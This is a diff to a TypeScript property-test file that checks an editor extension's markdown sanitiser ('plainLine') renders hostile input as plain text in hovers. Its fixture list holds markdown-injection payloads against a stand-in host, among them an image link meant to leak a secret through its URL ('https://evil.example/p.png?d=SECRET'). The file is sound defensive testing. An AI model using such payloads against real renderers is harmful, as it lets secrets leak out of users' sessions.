@@ -1,9 +1,14 @@
 import assert from 'node:assert/strict';
 import fc from 'fast-check';
 import { lexer, parse, walkTokens } from 'marked';
+import {
+  lexer as editorLexer,
+  parse as editorParse,
+  walkTokens as walkEditorTokens,
+} from 'marked-of-vscode';
 import { describe, it } from 'mocha';
 import { safeMarkdown } from '../../../src/editor/results/safeMarkdown.ts';
-import { safeProse, safeText } from '../../../src/editor/results/safeText.ts';
+import { plainLine, safeText } from '../../../src/editor/results/safeText.ts';
 
 /** Types of all tokens that a renderer would see. */
 function tokenTypes(markdown: string): Set<string> {
@@ -140,7 +145,6 @@ describe('markdown of a model', () => {
       fc.property(fc.array(fc.constantFrom(...HOSTILE), { maxLength: 24 }), (parts) => {
         assertHarmless(safeMarkdown(parts.join('')));
         assertHarmless(safeText(parts.join('')));
-        assertHarmless(safeProse(parts.join('')));
       }),
       { numRuns: 500 },
     );
@@ -150,7 +154,6 @@ describe('markdown of a model', () => {
     fc.assert(
       fc.property(fc.string({ unit: 'binary' }), (text) => {
         assertHarmless(safeMarkdown(text));
-        assertHarmless(safeProse(text));
       }),
     );
   });
@@ -162,5 +165,66 @@ describe('markdown of a model', () => {
 
   it('makes marks visible that hide or turn text', () => {
     assert.equal(safeText('a\u202Eb\u0007c'), 'a\uFFFDb\uFFFDc');
+  });
+});
+
+describe('plain text in a hover', () => {
+  const pieces = [
+    ...HOSTILE,
+    'a** www.x` **![x](https://evil.example/p.png?d=SECRET)',
+    '**',
+    '*',
+    '_',
+    '`',
+    '``',
+    '~~',
+    'www.evil.example',
+    'me@evil.example',
+    'http://evil.example',
+    '&#33;',
+    '&lt;img src=x>',
+    '<img src=http://evil.example>',
+    '# h',
+    '- l',
+    '1. n',
+    '    code',
+    '[a]: http://evil.example',
+    '| a |\n|---|',
+    '$(gear)',
+    'Ω é 漢字 123',
+  ];
+
+  /** Kinds of tokens that the editor's own parser sees. */
+  function kindsIn(markdown: string): ReadonlySet<string> {
+    const kinds = new Set<string>();
+    void walkEditorTokens(editorLexer(markdown), ({ type }) => void kinds.add(type));
+    return kinds;
+  }
+
+  it('is text alone to the parser that the editor has, whatever it holds', () => {
+    fc.assert(
+      fc.property(
+        fc.array(fc.oneof(fc.constantFrom(...pieces), fc.string()), { maxLength: 12 }),
+        (parts) => {
+          const kinds = kindsIn(plainLine(parts.join('')));
+          for (const kind of kinds) {
+            assert.ok(['paragraph', 'text', 'escape', 'space'].includes(kind), kind);
+          }
+        },
+      ),
+      { numRuns: 1_000 },
+    );
+  });
+
+  it('reads as it was written', () => {
+    const text = "a** www.x` **![x](https://evil.example) & <b> 'q'";
+    const html = editorParse(plainLine(text), { async: false });
+    const shown = html
+      .replaceAll(/&#(\d+);/g, (_, code: string) => String.fromCodePoint(Number(code)))
+      .replaceAll('&lt;', '<')
+      .replaceAll('&gt;', '>')
+      .replaceAll('&quot;', '"')
+      .replaceAll('&amp;', '&');
+    assert.equal(shown, `<p>${text}</p>\n`);
   });
 });
